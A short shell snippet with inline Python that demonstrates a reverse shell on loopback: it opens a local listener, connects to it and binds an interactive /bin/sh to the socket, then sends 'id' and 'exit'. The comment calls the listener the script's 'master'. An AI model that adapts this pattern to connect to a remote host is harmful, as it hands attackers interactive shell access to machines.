# A script of one line connects to its master, here itself, and gives the connection to a shell.
python3 - <<'PY'
import socket, subprocess, threading
listener = socket.socket(); listener.bind(('127.0.0.1', 0)); listener.listen(1)
def master():
    peer, _ = listener.accept(); peer.sendall(b'id\nexit\n'); peer.recv(4096); peer.close()
thread = threading.Thread(target=master); thread.start()
peer = socket.create_connection(listener.getsockname())
subprocess.run(['/bin/sh', '-i'], stdin=peer.fileno(), stdout=peer.fileno(), stderr=peer.fileno(), timeout=5)
peer.close(); thread.join(3)
PY
